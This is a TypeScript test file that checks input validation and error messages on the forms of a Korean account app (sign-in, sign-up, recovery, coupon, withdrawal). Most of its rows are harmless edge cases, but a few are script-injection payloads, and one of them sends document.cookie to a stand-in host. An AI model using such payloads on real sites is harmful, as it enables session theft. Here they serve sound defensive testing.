import { screen } from '@testing-library/react';
import { HttpResponse } from 'msw';
import { expect, test, vi } from 'vitest';
import { answerEveryWrite } from '../../support/handlers/reply';
import { expectSentenceAt } from '../../support/fields';
import { submitForm, WORD, type FormName } from './account-forms';

const PHONE = '휴대폰 번호';
const AGAIN = '비밀번호 확인';
const NEW = '새 비밀번호';
const CODE = '인증번호 6자리';
const COUPON = '쿠폰 번호';

const WRONG_PHONE = '휴대폰 번호를 확인해 주세요.';
const NO_PHONE = '휴대폰 번호를 입력해 주세요.';
const SHORT = '8자 이상 입력해 주세요.';
const LONG = '64자까지 입력할 수 있어요.';
const DIFFER = '비밀번호가 서로 일치하지 않아요.';
const SIX_DIGITS = '숫자 6자리를 입력해 주세요.';
const WRONG_COUPON = '쿠폰 번호를 확인해 주세요. 영문과 숫자 4~32자예요.';
const NO_COUPON = '쿠폰 번호를 입력해 주세요.';
const NO_NAME = '이름을 입력해 주세요.';
const LONG_NAME = '40자까지 입력할 수 있어요.';
const WRONG_WORD = '‘탈퇴’라고 정확히 입력해 주세요.';

/** `shown`: what the field shows, if it differs from the typed text. */
type Row = [form: FormName, what: string, field: string, typed: string, sentence: string, shown?: string];

const ROWS: Row[] = [
  ['sign-in', 'nothing', PHONE, '', NO_PHONE],
  ['sign-in', 'blanks only', PHONE, '   ', NO_PHONE, ''],
  ['sign-in', 'Hangul for a number', PHONE, '공일공', NO_PHONE, ''],
  ['sign-in', 'emoji for a number', PHONE, '📱📱', NO_PHONE, ''],
  ['sign-in', 'letters in a number', PHONE, '010-12a4-567b', WRONG_PHONE, '010-1245-67'],
  ['sign-in', 'a digit too few', PHONE, '010-1234-567', WRONG_PHONE],
  ['sign-in', 'a digit too many', PHONE, '010-1234-56789', WRONG_PHONE, '010-1234-56789'],
  ['sign-in', 'too few full-width digits', PHONE, '０１０１２３４５', WRONG_PHONE, '010-1234-5'],
  ['sign-in', '+82, a leading 0 and a digit too few', PHONE, '+82 010-1234-567', WRONG_PHONE, '010-1234-567'],
  ['sign-in', 'seven digits behind the offered 010', PHONE, '1234567', WRONG_PHONE, '010-1234-567'],
  ['sign-in', 'half a representative number', PHONE, '1588-12', WRONG_PHONE, '010-1588-12'],
  ['sign-in', 'a part of a number between direction marks', PHONE, '\u202E010-1234\u202C', WRONG_PHONE, '010-1234'],
  ['sign-in', 'a script for a number', PHONE, '<script>alert(1)</script>', WRONG_PHONE, '010-1'],
  ['sign-in', 'three hundred digits', PHONE, '0'.repeat(300), WRONG_PHONE, '000-0000-0000000000000'],
  ['sign-in', 'no password', '비밀번호', '', '비밀번호를 입력해 주세요.'],
  ['sign-in', 'a page for a password', '비밀번호', 'x'.repeat(5_000), LONG],

  ['sign-up', 'no password', '비밀번호', '', '비밀번호를 입력해 주세요.'],
  ['sign-up', 'seven letters', '비밀번호', '1234567', SHORT],
  ['sign-up', 'three blanks', '비밀번호', '   ', SHORT],
  ['sign-up', 'four emoji, which are eight units', '비밀번호', '🚚🚚🚚🚚', SHORT],
  ['sign-up', '65 letters', '비밀번호', 'x'.repeat(65), LONG],
  ['sign-up', 'another password the second time', AGAIN, 'long-enough-2', DIFFER],
  ['sign-up', 'a blank behind the second one', AGAIN, 'long-enough-1 ', DIFFER],
  ['sign-up', 'a direction mark in the second one', AGAIN, '\u200Flong-enough-1', DIFFER],
  ['sign-up', 'no second password', AGAIN, '', '비밀번호 확인을 입력해 주세요.'],

  ['recovery phone', 'nothing', PHONE, '', NO_PHONE],
  ['recovery phone', 'half a landline', PHONE, '02-123', WRONG_PHONE],
  ['recovery phone', 'too short a Vietnamese number', PHONE, '+84 012', WRONG_PHONE, '012'],

  ['recovery code', 'no code', CODE, '', '인증번호 6자리를 입력해 주세요.'],
  ['recovery code', 'five digits', CODE, '12345', SIX_DIGITS],
  ['recovery code', 'five full-width digits', CODE, '１２３４５', SIX_DIGITS, '12345'],
  ['recovery code', 'letters', CODE, 'abcdef', '인증번호 6자리를 입력해 주세요.', ''],
  ['recovery code', 'an emoji among the digits', CODE, '12😀456', SIX_DIGITS, '12456'],
  ['recovery code', 'seven letters', NEW, '1234567', SHORT],
  ['recovery code', 'another password the second time', '새 비밀번호 확인', 'brand-new-2', DIFFER],

  ['name', 'nothing', '이름', '', NO_NAME],
  ['name', 'blanks only', '이름', '   ', NO_NAME],
  ['name', 'direction marks only', '이름', '\u202E\u200F', NO_NAME],
  ['name', '41 letters', '이름', '가'.repeat(41), LONG_NAME],
  ['name', 'a long script', '이름', '<script>fetch("//a.test?"+document.cookie)</script>', LONG_NAME],

  ['password change', 'seven letters', NEW, '1234567', SHORT],
  ['password change', '65 letters', NEW, 'x'.repeat(65), LONG],
  ['password change', 'another password the second time', '새 비밀번호 확인', 'brand-new-2', DIFFER],

  ['coupon', 'nothing', COUPON, '', NO_COUPON],
  ['coupon', 'blanks only', COUPON, '   ', NO_COUPON],
  ['coupon', 'Hangul', COUPON, '감사쿠폰', WRONG_COUPON],
  ['coupon', 'three letters', COUPON, 'ABC', WRONG_COUPON],
  ['coupon', 'a page of letters', COUPON, 'A'.repeat(5_000), WRONG_COUPON, 'A'.repeat(64)],
  ['coupon', 'emoji', COUPON, '🎁🎁🎁🎁', WRONG_COUPON],
  ['coupon', 'a script', COUPON, '<script>alert(1)</script>', WRONG_COUPON],

  ['withdrawal', 'no password', '현재 비밀번호', '', '현재 비밀번호를 입력해 주세요.'],
  ['withdrawal', 'nothing for the word', WORD, '', WRONG_WORD],
  ['withdrawal', 'blanks for the word', WORD, '  ', WRONG_WORD],
  ['withdrawal', 'another word', WORD, '탈퇴해요', WRONG_WORD],
];

test.each(ROWS)(
  '%s, %s: the field shows an error, and nothing is sent',
  async (form, _, field, typed, sentence, shown) => {
    const asked = vi.fn(() => HttpResponse.json({}, { status: 400 }));
    const { values } = await submitForm(form, { [field]: typed }, () => answerEveryWrite(asked));

    await expectSentenceAt(field, sentence);

    for (const [label, text] of Object.entries(values)) {
      expect(screen.getByLabelText(label)).toHaveValue(label === field ? (shown ?? typed) : text);
    }
    expect(asked).not.toHaveBeenCalled();
  },
);
